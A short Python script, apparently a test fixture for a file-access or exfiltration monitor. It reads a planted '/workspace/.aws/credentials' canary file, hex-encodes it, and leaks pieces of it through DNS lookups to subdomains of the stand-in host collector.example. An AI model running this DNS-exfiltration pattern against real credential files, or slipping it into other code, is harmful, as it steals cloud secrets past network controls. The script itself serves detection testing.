# what: reads a planted file and asks for a few names that carry it, in pieces
# canary: /workspace/.aws/credentials
import os, socket, time

print("begun", flush=True)
time.sleep(0.2)
with open("/workspace/.aws/credentials", "rb") as f:
    text = f.read().hex()
time.sleep(0.5)  # what watches the file is another process
for i in range(0, min(len(text), 120), 12):
    try:
        socket.getaddrinfo("%s.%d.in.collector.example" % (text[i:i + 12], i), 80)
    except OSError:
        pass
time.sleep(float(os.environ.get("LINGER", "20")))
print("done")
